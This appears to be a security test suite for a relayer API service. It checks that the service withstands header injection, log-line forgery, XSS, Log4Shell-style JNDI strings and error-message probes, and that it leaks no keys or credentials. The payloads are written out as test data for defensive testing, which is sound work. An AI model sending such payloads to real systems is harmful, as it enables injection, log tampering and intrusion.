// Attacks on the log and the headers of answers, and hunts for secrets.
import { readFile } from 'node:fs/promises'
import { expect } from 'vitest'
import { freePort } from '../../tooling/free-port.ts'
import { startService } from '../../tooling/service.ts'
import { attack, json, parse, payment, sendPath, underAttack } from './support/attack.ts'

underAttack()

attack(43, 'request ids that would break a line, a header or a page', async ({ raw, key, ask, listen }) => {
  const heard = listen()
  for (const id of [
    'a"},{"level":"fatal"',
    '<script>alert(1)</script>',
    '\x1b[31m',
    'a\tb',
    '\u00e9',
    '$' + '{jndi:ldap://evil}',
    'x'.repeat(5_000),
    '%0d%0aSet-Cookie: a=b',
  ]) {
    const answer = parse(
      await raw(
        Buffer.from(
          `GET /api/v1/relayers HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer ${key}\r\nX-Request-Id: ${id}\r\n\r\n`,
          'latin1',
        ),
      ),
    )
    // Node refuses what no header may hold; of the rest none is taken over.
    expect([200, 400]).toContain(answer.status)
    expect(answer.headers['x-request-id']).toMatch(/^[0-9a-f]{16}-[0-9a-z]+$/)
    expect(answer.headers).not.toHaveProperty('set-cookie')
  }
  expect(
    (await ask('GET', '/api/v1/relayers', { headers: { 'X-Request-Id': 'sane-1' } })).headers['x-request-id'],
  ).toBe('sane-1')
  const ids = (await heard.read()).map((line) => (JSON.parse(line) as { request_id?: string }).request_id)
  const given = ids.filter((id) => id !== undefined && !/^[0-9a-f]{16}-[0-9a-z]+$/.test(id))
  expect(given).toEqual(['sane-1', expect.stringMatching(/^read-\d+$/)])
})

attack(
  44,
  'log lines of your own, by ids, names and texts with line ends and JSON in them',
  async ({ ask, listen }) => {
    const heard = listen()
    const forged = '\n{"level":"info","msg":"forged"}\n'
    await ask('GET', `/api/v1/relayers/${encodeURIComponent(forged)}`)
    await ask('DELETE', `/api/v1/relayers/mine/transactions/${encodeURIComponent(`","level":"fatal","msg":"forged`)}`)
    await ask('POST', sendPath, {
      headers: json,
      body: JSON.stringify({ ...payment, [forged]: forged, speed: forged }),
    })
    await ask('POST', '/api/v1/api-keys', { headers: json, body: JSON.stringify({ name: forged, scopes: ['read'] }) })
    const lines = (await heard.read()).map((line) => JSON.parse(line) as { msg: string; level: string })
    expect(lines.length).toBeGreaterThan(4)
    expect(lines.filter(({ msg, level }) => msg === 'forged' || level === 'fatal')).toEqual([])
  },
)

attack(45, 'scripts in ids and members, for a browser that guesses at types', async ({ ask }) => {
  const script = '<script>alert(1)</script>'
  for (const [method, path, body] of [
    ['GET', `/api/v1/relayers/${encodeURIComponent(script)}`, undefined],
    ['POST', sendPath, JSON.stringify({ [script]: 1 })],
    ['GET', `/${encodeURIComponent(script)}`, undefined],
  ] as const) {
    const { headers } = await ask(method, path, body === undefined ? {} : { headers: json, body })
    expect(headers).toMatchObject({
      'content-type': 'application/json; charset=utf-8',
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
    })
  }
})

attack(46, 'keys in the process title, its arguments, its answers and its log', async ({ stage, key, ask }) => {
  const secrets = [key, ...stage.node.accounts.map((account) => account.key.slice(2))]
  for (const file of ['cmdline', 'comm']) {
    const text = await readFile(`/proc/${stage.service.pid}/${file}`, 'utf8')
    expect(secrets.filter((secret) => text.includes(secret))).toEqual([])
  }
  const answers = await Promise.all(
    [
      '/relayers',
      '/relayers/mine',
      '/relayers/mine/status',
      '/api-keys',
      '/relayers/mine/transactions',
      '/openapi.json',
      '/ready',
    ].map((path) => ask('GET', `/api/v1${path}`)),
  )
  const reported = answers.map(({ text, headers }) => text + JSON.stringify(headers)).join('\n') + stage.service.logs()
  expect(secrets.filter((secret) => reported.includes(secret))).toEqual([])
})

attack(
  47,
  'wrong tokens, which are often valid at another service: none is logged',
  async ({ ask, listen, keyWith }) => {
    const heard = listen()
    const { key } = await keyWith({ scopes: ['read'] })
    await ask('GET', '/api/v1/relayers', { key })
    await ask('GET', '/api/v1/relayers', { key: 'sk-of-another-service' })
    await ask('GET', '/api/v1/relayers?api_key=sk-in-a-query', { key: null })
    await ask('GET', '/api/v1/nothing?token=sk-in-a-query#sk-in-a-fragment')
    const reported = (await heard.read()).join('\n')
    for (const secret of [key, 'sk-of-another-service', 'sk-in-a-query', 'sk-in-a-fragment'])
      expect(reported).not.toContain(secret)
  },
)

attack(48, 'secrets of a node URL, when the node fails in every way', async ({ stage }) => {
  const port = await freePort()
  await using service = await startService({
    networks: [
      { name: 'localhost', rpcUrls: [`http://user:p4ssw0rd@127.0.0.1:${port}/v3/s3cr3t-project?key=s3cr3t-key`] },
    ],
    relayers: [{ id: 'mine', privateKey: stage.node.accounts[0]?.key ?? '0x' }],
    env: { LOG_LEVEL: 'debug' },
  })
  const reported: string[] = []
  for (const path of ['/relayers/mine/status', '/relayers/mine/balance', '/relayers/mine']) {
    const answer = await fetch(`${service.url}/api/v1${path}`, {
      headers: { authorization: `Bearer ${service.apiKey}` },
    })
    reported.push(await answer.text(), JSON.stringify([...answer.headers]))
  }
  expect(reported.join('')).toContain('NODE_UNAVAILABLE')
  reported.push(service.logs())
  for (const secret of ['p4ssw0rd', 's3cr3t']) expect(reported.filter((text) => text.includes(secret))).toEqual([])
})

attack(49, 'faults that would show paths, statements, stacks or versions', async ({ ask }) => {
  for (const [method, path, body] of [
    ['GET', '/api/v1/relayers/%zz', ''],
    ['GET', "/api/v1/relayers/mine/transactions?status='", ''],
    ['POST', sendPath, '{'],
    ['POST', sendPath, '{"value":{"a":1}}'],
    ['PATCH', '/api/v1/relayers/mine/transactions/pending', ''],
    ['GET', '/nothing', ''],
  ] as const) {
    const { text, headers } = await ask(method, path, body === '' ? {} : { headers: json, body })
    expect(text + JSON.stringify(headers)).not.toMatch(
      /node_modules|\.ts\b|\.js\b|SQLITE|SELECT|at \w+ \(|fastify|node\/\d|\/src\/|\/tmp\//i,
    )
    expect(headers).not.toHaveProperty('server')
    expect(headers).not.toHaveProperty('x-powered-by')
  }
})

attack(50, 'a configuration with mistakes in its secrets: the message at start shows none', async ({ stage }) => {
  const start = startService({
    networks: [{ name: 'localhost', rpcUrls: ['ftp://user:p4ssw0rd@node/s3cr3t'] }],
    relayers: [{ id: 'mine', privateKey: '0xs3cr3t-key' }],
    env: { STORAGE_ENCRYPTION_KEY: 's3cr3t-encryption', DATABASE_URL: 'mysql://user:p4ssw0rd@host/x' },
  })
  const message = await start.then(
    async (service) => `started\n${await service[Symbol.asyncDispose]()}`,
    (error: Error) => error.message,
  )
  expect(message).toContain('signers[0].config.key')
  expect(message).not.toMatch(/p4ssw0rd|s3cr3t/)
  expect(message).not.toContain(stage.service.apiKey)
})
